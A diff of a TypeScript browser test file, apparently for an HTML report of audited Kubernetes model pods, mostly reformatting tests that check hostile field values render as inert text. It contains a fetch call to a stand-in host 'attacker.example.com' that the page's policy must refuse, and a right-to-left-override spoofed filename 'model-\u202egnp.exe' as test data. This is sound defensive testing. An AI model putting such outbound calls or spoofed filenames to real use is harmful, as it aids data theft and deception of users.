@@ -27,8 +27,29 @@ const attacks = {
 function hostilePod(name: string, text: string): AuditedPod {
   const evidence = { field: text, expected: text, found: `${text} other` }
   return makePod(1, {
-    namespace: text, name, owner: { kind: text, name: text }, createdAt: text, uid: text, file: text, phase: text, serviceAccount: text, injector: text, rules: [text],
-    models: [{ ...makeModel(1), name: text, source: text, delivery: text, family: text, version: text, image: text, containers: [text], mountPath: text }],
+    namespace: text,
+    name,
+    owner: { kind: text, name: text },
+    createdAt: text,
+    uid: text,
+    file: text,
+    phase: text,
+    serviceAccount: text,
+    injector: text,
+    rules: [text],
+    models: [
+      {
+        ...makeModel(1),
+        name: text,
+        source: text,
+        delivery: text,
+        family: text,
+        version: text,
+        image: text,
+        containers: [text],
+        mountPath: text,
+      },
+    ],
     judgements: [{ ...judged('tampered'), reason: text, evidence: [evidence] }],
     diff: [evidence, { field: text, found: text }, { field: text, expected: text, found: text }],
   })
@@ -51,34 +72,57 @@ for (const [name, text] of Object.entries(attacks)) {
     }
     await page.reload()
     t.strictSame(await shownPods(page), [shown], 'from the address')
-    t.equal(await page.locator('script, img, svg, base, iframe, link[rel=stylesheet]').count(), 2, 'the data and the script of the page, and nothing else')
-    t.strictSame(requests.filter((url) => !url.startsWith('file:')), [])
+    t.equal(
+      await page.locator('script, img, svg, base, iframe, link[rel=stylesheet]').count(),
+      2,
+      'the data and the script of the page, and nothing else',
+    )
+    t.strictSame(
+      requests.filter((url) => !url.startsWith('file:')),
+      [],
+    )
     t.strictSame(complaints, [])
   })
 }
 
-t.test('what would turn or hide text is written out, and right-to-left names leave their surroundings alone', async (t) => {
-  const { page } = await browser.open([makePod(1, { name: 'model-\u202egnp.exe', namespace: 'נתונים', serviceAccount: 'حساب', judgements: [judged('conforming')] })])
-  t.strictSame(await shownPods(page), ['model-\\u202egnp.exe'])
-  t.equal(await page.locator('#namespace option').last().textContent(), '\u2068נתונים\u2069 (1)')
-  const cell = page.locator('[data-label=Namespace] bdi')
-  t.equal(await cell.innerText(), 'נתונים')
-  t.equal(await cell.evaluate((element) => getComputedStyle(element).unicodeBidi), 'isolate')
-  t.notMatch(await page.locator('body').innerText(), /[\u202a-\u202e]/)
-})
+t.test(
+  'what would turn or hide text is written out, and right-to-left names leave their surroundings alone',
+  async (t) => {
+    const { page } = await browser.open([
+      makePod(1, {
+        name: 'model-\u202egnp.exe',
+        namespace: 'נתונים',
+        serviceAccount: 'حساب',
+        judgements: [judged('conforming')],
+      }),
+    ])
+    t.strictSame(await shownPods(page), ['model-\\u202egnp.exe'])
+    t.equal(await page.locator('#namespace option').last().textContent(), '\u2068נתונים\u2069 (1)')
+    const cell = page.locator('[data-label=Namespace] bdi')
+    t.equal(await cell.innerText(), 'נתונים')
+    t.equal(await cell.evaluate((element) => getComputedStyle(element).unicodeBidi), 'isolate')
+    t.notMatch(await page.locator('body').innerText(), /[\u202a-\u202e]/)
+  },
+)
 
-t.test('values of a million characters neither widen nor lengthen the page, and are there when asked for', async (t) => {
-  const long = 'x'.repeat(1_000_000)
-  const { page, complaints } = await browser.open([hostilePod('pod', long)])
-  await page.locator('#rows .open').first().click()
-  const size = await page.evaluate(() => ({ wide: document.documentElement.scrollWidth - innerWidth, text: document.body.innerText.length }))
-  t.ok(size.wide <= 0, `${size.wide} pixels too wide`)
-  t.ok(size.text < 30_000, `${size.text} characters`)
-  const source = page.locator('td[data-label=Source]')
-  await source.getByRole('button', { name: 'Show all 1,000,000 characters' }).click()
-  t.equal((await source.innerText()).length, 1_000_000)
-  t.strictSame(complaints, [])
-})
+t.test(
+  'values of a million characters neither widen nor lengthen the page, and are there when asked for',
+  async (t) => {
+    const long = 'x'.repeat(1_000_000)
+    const { page, complaints } = await browser.open([hostilePod('pod', long)])
+    await page.locator('#rows .open').first().click()
+    const size = await page.evaluate(() => ({
+      wide: document.documentElement.scrollWidth - innerWidth,
+      text: document.body.innerText.length,
+    }))
+    t.ok(size.wide <= 0, `${size.wide} pixels too wide`)
+    t.ok(size.text < 30_000, `${size.text} characters`)
+    const source = page.locator('td[data-label=Source]')
+    await source.getByRole('button', { name: 'Show all 1,000,000 characters' }).click()
+    t.equal((await source.innerText()).length, 1_000_000)
+    t.strictSame(complaints, [])
+  },
+)
 
 t.test('names of the cluster and of the configuration are text, too', async (t) => {
   const file = `${t.testdir()}/report.html`
@@ -99,7 +143,12 @@ t.test('the policy of the page stops what its script does not', async (t) => {
     }
   })
   t.equal(refused, 'refused')
-  const fetched = await page.evaluate(() => fetch('https://attacker.example.com/').then(() => 'sent', () => 'refused'))
+  const fetched = await page.evaluate(() =>
+    fetch('https://attacker.example.com/').then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  )
   t.equal(fetched, 'refused')
   const refusal = page.waitForEvent('requestfailed')
   await page.evaluate(() => {
